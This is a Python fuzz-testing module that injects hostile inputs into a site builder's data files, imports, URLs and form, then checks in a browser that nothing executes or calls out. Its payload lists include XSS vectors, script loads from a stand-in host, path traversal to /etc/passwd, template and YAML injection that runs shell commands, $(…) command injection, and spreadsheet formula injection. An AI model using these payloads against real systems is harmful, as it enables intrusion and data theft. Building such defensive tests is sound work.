# ruff: noqa: E501 -- what is read as a list and a script within

"""What somebody who means harm would write, brought through every way in: `make fuzz` brings all of
it, the suite some.

A way in is a field of a file, a cell, a hand-written page, a foreign calendar or Open Referral
file, an address, a form. What `check` refuses is out; what it passes is built and every page is
opened in Chromium, with the pages' own policy switched off: it is the last fence, not the first.
"""

from __future__ import annotations

import csv
import io
import json
import random
import re
import urllib.parse
from collections.abc import Iterator
from contextlib import suppress
from dataclasses import dataclass
from pathlib import Path

import icalendar

AFAR = "ran.example"  # nobody's, and nothing may ever be asked of it
_RUN = "ran()"

_HTML = """
<script>{run}</script>|<ScRiPt>{run}</sCrIpT>|<script/src=//{afar}/x.js></script>|<script>{run}//
<img src=x onerror={run}>|<img src=//{afar}/x.png>|<image src=x onerror={run}>|<img/src=x/onerror={run}>
<svg onload={run}>|<svg/onload={run}>|<svg><script>{run}</script></svg>|<svg><style onload={run}>
<svg><animate onbegin={run} attributeName=x dur=1s>|<svg><set onbegin={run} attributename=x>
<svg><a xlink:href=javascript:{run}><text y=20>x</text></a></svg>|<math href=javascript:{run}>x</math>
<body onload={run}>|<iframe src=javascript:{run}>|<iframe srcdoc='<script>parent.{run}</script>'>
<object data=javascript:{run}>|<embed src=javascript:{run}>|<details open ontoggle={run}>x</details>
<input autofocus onfocus={run}>|<select autofocus onfocus={run}>|<textarea autofocus onfocus={run}>
<video><source onerror={run}>|<audio src=x onerror={run}>|<marquee onstart={run}>|<keygen onfocus={run}>
<a href=javascript:{run}>x</a>|<a href='java&#10;script:{run}'>x</a>|<a href=data:text/html,x>x</a>
<form action=javascript:{run}><button>x</button></form>|<button formaction=javascript:{run}>x</button>
<link rel=stylesheet href=//{afar}/x.css>|<style>@import '//{afar}/x.css'</style>|<base href=//{afar}/>
<meta http-equiv=refresh content='0;url=//{afar}/'>|<template><script>{run}</script></template>
<noscript><p title='</noscript><img src=x onerror={run}>'>|<!--><script>{run}</script>-->
]]><script>{run}</script>|</title><script>{run}</script>|</textarea><script>{run}</script>
</script><script>{run}</script>|"><img src=x onerror={run}>|'><img src=x onerror={run}>
" onmouseover={run} x="|' onfocus={run} autofocus x='|` onerror={run} `|--><img src=x onerror={run}>
<x onpointerenter={run} style=position:fixed;inset:0>x</x>|<dialog open onclose={run}>|<p style=x:y>x</p>
"""
_ADDRESSES = """
javascript:{run}|JaVaScRiPt:{run}|java\tscript:{run}|\x01javascript:{run}| javascript:{run}
javascript://lillevig.example/%0a{run}|data:text/html,<script>{run}</script>|vbscript:{run}
data:text/html;base64,PHNjcmlwdD5yYW4oKTwvc2NyaXB0Pg==|//{afar}/x|https:/{afar}/x|blob:https://{afar}/x
https://{afar}@lillevig.example/|http://[::1]/|file:///etc/passwd|view-source:https://{afar}/
../../etc/passwd|..\\..\\windows|/etc/passwd|%2e%2e/%2e%2e/x|....//x|con|x/../../y|~root|$HOME|`id`
"""
_MARKDOWN = """
[x](javascript:{run})|[x](<javascript:{run}>)|<javascript:{run}>|![x](x" onerror="{run})|![x](//{afar}/x)
[x]({{.. onclick={run}}})|x{{: onclick={run} }}|[x](x "onmouseover={run}")|``` {{.x onclick={run}}}
!!! note "<img src=x onerror={run}>"|--8<-- "/etc/passwd"|--8<-- "../../x"|[x](data:text/html,x)
"""
_CODE = """
{{{{ 1234*4321 }}}}|{{% set x = 1234*4321 %}}{{{{ x }}}}|{{{{ cycler.__init__.__globals__.os.popen('touch RAN') }}}}
{{{{ self.__init__.__globals__ }}}}|{{% include '/etc/passwd' %}}|{{# x|${{1234*4321}}|<%= 1234*4321 %>
{{{{ config }}}}|{{{{ request }}}}|{{% for x in (1,) %}}|{{{{ ''.__class__.__mro__ }}}}|#{{1234*4321}}|%s%n%x|$(touch RAN)
"""
_CELLS = """
=1234*4321|+1234*4321|-1234+4321|@SUM(1)|=cmd|' /C calc'!A0|=HYPERLINK("http://{afar}")|=WEBSERVICE("http://{afar}")
"""
_YAML = (
    "!!python/object/apply:os.system ['touch RAN']",
    "!!python/name:os.system",
    "!!python/object/new:os.system [touch RAN]",
    "!!binary cmFu",
    "!x y",
    "&a [*a, *a]",
    "*nowhere",
    "<<: *x",
    "? [a, b]",
)
_SIGNS = (
    "\u202eelif.exe", "a\u2066b", "\u200bx", "x\u00ad\u00adx", "x\x00y", "x\u2028y", "x\u2029y",
    "\ufeffx", "x\x1by", "x\x7fy", "\ud83d", "x\ufff9y", "x\U000e0041y",
)  # fmt: skip
_LINES = (
    "x\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nSUMMARY:ran",
    f"x\nATTACH:https://{AFAR}/x",
    f"x\r\nX-RAN:{AFAR}",
    "x\\nBEGIN:VALARM",
    f'x;ALTREP="https://{AFAR}":y',
    "x\r\n BEGIN:VEVENT",
    "x\nset-cookie: ran=1",
    '"},{"ran":1,"x":"',
    "x;y;z",
)


def _listed(text: str) -> list[str]:
    split = [one for line in text.strip("\n").split("\n") for one in line.split("|")]
    return [one.format(run=_RUN, afar=AFAR) for one in split if one.strip()]


_MARKED = [*_listed(_HTML), *_listed(_ADDRESSES)]
PAYLOADS: tuple[str, ...] = tuple(
    dict.fromkeys(
        [
            *_MARKED,
            *_listed(_MARKDOWN),
            *_listed(_CODE),
            *_listed(_CELLS),
            *_SIGNS,
            *_LINES,
            # The same in other clothes: entities, percent signs, wide letters, a NUL within.
            *(one.replace("<", "&lt;").replace(">", "&gt;") for one in _listed(_HTML)),
            *(one.replace("<", "&#x3c;").replace("j", "&#106;") for one in _MARKED),
            *(urllib.parse.quote(one) for one in _MARKED),
            *(one.replace("<", "\uff1c").replace(">", "\uff1e") for one in _listed(_HTML)),
            *(one.replace("script", "scr\x00ipt") for one in _MARKED if "script" in one),
        ]
    )
)

_FIELD = re.compile(r"^(?P<head>\s*(?:- )?[a-z_]+: )(?P<value>\S.*)$")


class Attack:
    """A project with payloads in its files. dice: which payload comes where."""

    def __init__(self, project: Path, payloads: list[str], dice: random.Random):
        self.project, self.dice = project, dice
        self._payloads = payloads
        self._next = 0
        self._sound: dict[Path, list[str]] = {}  # the lines of each file as they were
        self.put = 0

    def payload(self) -> str:
        self._next += 1
        return self._payloads[self._next % len(self._payloads)]

    def fields(self, share: float) -> None:
        """A payload in the place of some fields' values, or behind them."""
        for file in sorted((self.project / "data").rglob("*.yml")):
            lines = file.read_text(encoding="utf-8").split("\n")
            self._sound[file] = list(lines)
            for at, line in enumerate(lines):
                found = _FIELD.match(line)
                if not found or self.dice.random() > share:
                    continue
                payload, value = self.payload(), found["value"].strip("\"'|>-")
                if self.dice.random() < 0.15:
                    lines[at] = found["head"] + self.dice.choice(_YAML)
                elif self.dice.random() < 0.5:
                    lines[at] = found["head"] + _quoted(payload)
                else:
                    lines[at] = found["head"] + _quoted(f"{value} {payload}")
                self.put += 1
            file.write_bytes("\n".join(lines).encode("utf-8", "surrogatepass"))

    def cells(self, share: float) -> None:
        for file in sorted((self.project / "data/activities").glob("*.csv")):
            head, *rows = csv.reader(io.StringIO(file.read_text("utf-8-sig")), delimiter=";")
            for row in rows:
                for at, value in enumerate(row):
                    if value and self.dice.random() < share:
                        row[at] = f"{value} {self.payload()}"
                        self.put += 1
            out = io.StringIO()
            csv.writer(out, delimiter=";").writerows([head, *rows])
            self._sound[file] = file.read_text(encoding="utf-8").split("\n")
            file.write_bytes(out.getvalue().encode("utf-8", "surrogatepass"))

    def pages(self) -> None:
        """A payload as a paragraph, in a heading and as the description of each page."""
        for file in sorted((self.project / "docs").rglob("*.md")):
            if "decisions" in file.parts:
                continue
            lines = file.read_text(encoding="utf-8").split("\n")
            self._sound[file] = list(lines)
            for at, line in enumerate(lines):
                if line.startswith("description: ") and self.dice.random() < 0.3:
                    lines[at] = f"description: {_quoted(f'Her er {self.payload()}')}"
            lines += ["", self.payload(), "", f"## x {self.payload()}", "", f"- {self.payload()}"]
            self.put += 3
            file.write_bytes("\n".join(lines).encode("utf-8", "surrogatepass"))

    def repair(self) -> int:
        """Take back, fault by fault, what `check` refuses; how many payloads stay."""
        from macros.reading.load import read

        for _ in range(400):
            _, faults = read(self.project)
            if not faults:
                return self._left()
            for path, lines in _by_file(faults, self.project).items():
                self._take_back(path, lines)
        raise AssertionError(f"never sound again: {faults[0]}")

    def _take_back(self, file: Path, lines: set[int]) -> None:
        sound = self._sound.get(file)
        if sound is None:  # it names another by its title
            self._take_back_titles()
            return
        raw = file.read_bytes()
        now = raw.decode("utf-8", "replace").split("\n")
        if now == sound:  # nothing was done to it: what made use of it is harmed
            self._take_back_uses(sound)
            return
        hit = {at for at in lines if at < len(sound) and now[at : at + 1] != sound[at : at + 1]}
        if len(now) != len(sound) or not hit:  # where the harm shows is not where it was done
            file.write_text("\n".join(sound), encoding="utf-8")
            return
        for at in hit:
            now[at] = sound[at]
        file.write_text("\n".join(now), encoding="utf-8")

    def _take_back_uses(self, sound: list[str]) -> None:
        (title,) = [line.removeprefix("title: ") for line in sound if line.startswith("title: ")]
        for file, before in self._sound.items():
            if any(title.lower() in line.lower() for line in before):
                file.write_text("\n".join(before), encoding="utf-8")

    def _take_back_titles(self) -> None:
        for file, sound in self._sound.items():
            if file.suffix == ".yml":
                now = file.read_text(encoding="utf-8").split("\n")
                for at, line in enumerate(sound):
                    if line.startswith("title: "):
                        now[at] = line
                file.write_text("\n".join(now), encoding="utf-8")

    def _left(self) -> int:
        return sum(
            line != before
            for file, sound in self._sound.items()
            for line, before in zip(
                file.read_text(encoding="utf-8").split("\n"), sound, strict=False
            )
        )


def _quoted(text: str) -> str:
    """As YAML has it between double quotes: JSON's way, with control signs as escapes."""
    return json.dumps(text, ensure_ascii=True)


def _by_file(faults: list, project: Path) -> dict[Path, set[int]]:
    found: dict[Path, set[int]] = {}
    for fault in faults:
        found.setdefault(project / fault.path, set()).add(fault.line - 1)
    return found


def calendar(payloads: list[str]) -> bytes:
    """A foreign calendar with a payload in each field, as a program would write it, and raw."""
    lines = ["BEGIN:VCALENDAR", "VERSION:2.0", "PRODID:-//x//x//DA"]
    for number, payload in enumerate(payloads):
        raw = payload.replace("\r", "").replace("\n", "\\n")
        lines += [
            "BEGIN:VEVENT",
            f"UID:{number}-{raw[:20]}",
            "DTSTAMP:20261101T120000Z",
            f"DTSTART:20261{201 + number % 25:03}T1{number % 8}0000",
            f"SUMMARY:Kaffe {number} {raw}",
            f"DESCRIPTION:Vi drikker kaffe. {raw}",
            f"LOCATION:{raw}",
            f"URL:{raw}",
            f"ORGANIZER;CN={raw!r}:mailto:x@lillevig.example",
            "END:VEVENT",
        ]
    return "\r\n".join([*lines, "END:VCALENDAR", ""]).encode("utf-8", "replace")


def services(payloads: list[str]) -> bytes:
    """The same as an Open Referral file."""
    listed = [
        {
            "id": f"{number}{payload[:9]}",
            "name": f"Kaffe {number} {payload}",
            "description": f"Vi drikker kaffe. {payload}",
            "url": payload,
            "email": payload,
            "fees_description": payload,
            "organization": {"id": "x", "name": f"Foreningen {payload}", "url": payload},
            "phones": [{"number": payload}],
            "schedules": [{"freq": "WEEKLY", "byday": "TU", "opens_at": "10:00"}],
        }
        for number, payload in enumerate(payloads)
    ]
    told = json.dumps({"contents": listed})
    return told.encode()


# What may be on a page, whoever wrote its text.
_DOM = r"""() => {
  const bad = [];
  for (const e of document.querySelectorAll("*")) {
    const where = e.cloneNode(false).outerHTML.slice(0, 200);
    if (/^(iframe|object|embed|base|frame|applet|marquee|math|audio|video)$/i.test(e.localName)) bad.push(where);
    if (e.localName === "script" && e.type !== "application/ld+json" && !(e.type === "module" && e.src.startsWith(location.origin))) bad.push(where);
    if (e.localName === "meta" && /refresh/i.test(e.httpEquiv || "")) bad.push(where);
    for (const a of e.attributes) {
      if (/^on/i.test(a.name) || a.name === "srcdoc" || a.name === "style") bad.push(where);
      if (/^(href|src|action|formaction|xlink:href|data|poster)$/i.test(a.name)) {
        const url = new URL(a.value, document.baseURI);
        if (!/^(https?|mailto|tel|webcal|sms|geo):$/.test(url.protocol)) bad.push(where);
        if (/^(src|data|poster)$/i.test(a.name) && url.origin !== location.origin) bad.push(where);
      }
    }
  }
  if (window.harm) bad.push("executed");
  for (const e of document.querySelectorAll('script[type="application/ld+json"]')) JSON.parse(e.textContent);
  return bad;
}"""


class Reader:
    """A reader's browser on a built site, which notes whatever must not happen."""

    def __init__(self, browser, address: str):
        self.address, self.seen = address, 0
        self.harm: list[str] = []
        context = browser.new_context(bypass_csp=True, viewport={"width": 1280, "height": 900})
        context.add_init_script("window.ran = () => { window.top.harm = true; }")
        context.route("**/*", self._asked)
        self._context, self.page = context, context.new_page()
        self.page.on("dialog", lambda dialog: (self.harm.append("dialog"), dialog.dismiss()))

    def close(self) -> None:
        self._context.close()

    def open(self, path: str) -> None:
        self.page.goto(f"{self.address}{path}", wait_until="load")
        self.look(path)

    def look(self, what: str) -> None:
        self.seen += 1
        for found in self.page.evaluate(_DOM):
            self.harm.append(f"{what[:200]}: {found}")
        if re.search(r"\b5332114\b|5\.332\.114", self.page.content()):
            self.harm.append(f"{what[:200]}: reckoned")

    def _asked(self, route) -> None:
        if route.request.url.startswith((self.address, "blob:")):
            route.continue_()
        else:
            self.harm.append(f"asked for {route.request.url[:200]}")
            route.abort()


def every_page(site: Path) -> list[str]:
    return sorted(path.relative_to(site).as_posix() for path in site.rglob("*.html"))


_NAMES = {
    "BEGIN", "END", "VERSION", "PRODID", "CALSCALE", "METHOD", "X-WR-CALNAME", "X-WR-TIMEZONE",
    "X-PUBLISHED-TTL", "REFRESH-INTERVAL", "TZID", "DTSTART", "DTEND", "DURATION", "RRULE",
    "TZNAME", "TZOFFSETFROM", "TZOFFSETTO", "SUMMARY", "DTSTAMP", "UID", "SEQUENCE", "EXDATE",
    "DESCRIPTION", "GEO", "LAST-MODIFIED", "LOCATION", "STATUS", "TRANSP", "URL", "RECURRENCE-ID",
}  # fmt: skip


def calendars_harm(site: Path) -> Iterator[str]:
    """Lines in our calendars that we never wrote."""
    for path in sorted(site.rglob("*.ics")):
        raw = path.read_bytes()
        icalendar.Calendar.from_ical(raw)
        for line in raw.replace(b"\r\n ", b"").split(b"\r\n"):
            name = re.split(rb"[;:]", line, maxsplit=1)[0].decode("utf-8", "replace")
            if line and (name not in _NAMES or b"\n" in line or b"\r" in line):
                yield f"{path.name}: {line[:120]!r}"


def visit(reader: Reader, pages: list[str], payloads: list[str]) -> None:
    """Open the pages, then bring the payloads by address and by form."""
    for path in pages:
        reader.open(path)
    for payload in payloads:
        said = urllib.parse.quote(payload.encode("utf-8", "replace"), safe="")
        reader.open(f"soeg/?q={said}")
        reader.page.wait_for_timeout(20)
        reader.look(f"soeg {payload!r}")
    for payload in payloads[::5]:
        said = urllib.parse.quote(payload.encode("utf-8", "replace"), safe="")
        reader.open(f"aktiviteter/?postnr={said}&gruppe={said}&dag={said}#{said}")
        reader.open(f"{said}/")


def fill_in(reader: Reader, payloads: list[str]) -> Iterator[str]:
    """Write payloads in the form for activities; the cells of the sheet it makes that a spreadsheet
    would reckon with."""
    reader.open("aktiviteter/foreslaa/")
    page = reader.page
    for payload in payloads:
        for field in page.locator("form.fill-in input[type=text], form.fill-in textarea").all():
            if field.is_visible():
                field.fill(payload.replace("\x00", "").encode("utf-8", "replace").decode())
        page.get_by_role("button", name="Se, hvordan det bliver").click()
        # What is checked while one writes stops it at the door; all else goes through.
        wrong = page.locator("form.fill-in [aria-invalid=true]")
        for _ in range(wrong.count()):
            place = wrong.first.get_attribute("data-path") == "place"
            wrong.first.fill(f"{wrong.first.input_value()} 9999" if place else "")
        page.get_by_role("button", name="Se, hvordan det bliver").click()
        page.locator("[data-written] h2").wait_for()
        reader.look(f"form {payload!r}")
        sheet = page.evaluate(
            "fetch(document.querySelector('[data-row]').href).then(a => a.text())"
        )
        for row in csv.reader(io.StringIO(sheet.removeprefix("\ufeff")), delimiter=";"):
            yield from (f"sheet: {cell[:80]!r}" for cell in row if cell[:1] in set("=+-@\t\r"))


def harm(
    project: Path,
    browser,
    serve,
    payloads: list[str],
    share: float,
    seed: int,
    pages: list[str] | None = None,
) -> Attempt:
    """Bring payloads through every way into a project, build it, and look at it.

    serve: folder -> its address. share: of the fields and cells that get one. pages: all if not
    given.
    """
    from macros.adapter.build import build
    from macros.importing.draft import ImportStopped
    from macros.importing.take import from_file

    dice = random.Random(seed)
    payloads = dice.sample(payloads, len(payloads))
    attack = Attack(project, payloads, dice)
    organiser = sorted((project / "data/organisations").glob("*.yml"))[0].stem
    taken = 0
    for part in (payloads[:200], payloads[200:]):  # no file may bring more than 300
        for name, content in (("x.ics", calendar(part)), ("x.json", services(part))):
            (project / name).write_bytes(content)
            by = organiser if name == "x.ics" else None
            with suppress(ImportStopped):  # nothing in it was any good
                taken += len(from_file(project, project / name, by, write=True).taken)
    attack.fields(share)
    attack.cells(share)
    attack.pages()
    stay = attack.repair()
    build(project, project / "site")
    reader = Reader(browser, serve(project / "site"))
    try:
        visit(reader, pages or every_page(project / "site"), payloads)
        found = [*reader.harm, *fill_in(reader, payloads), *calendars_harm(project / "site")]
    finally:
        reader.close()
    if (project / "RAN").exists() or Path("RAN").exists():
        found.append("a command ran")
    return Attempt(attack.put, stay, taken, reader.seen, tuple(dict.fromkeys(found)))


@dataclass(frozen=True)
class Attempt:
    """put: payloads in files; stay: those that `check` let pass; taken: activities of foreign
    files; seen: how often a page was looked at; harm: what must not happen."""

    put: int
    stay: int
    taken: int
    seen: int
    harm: tuple[str, ...]
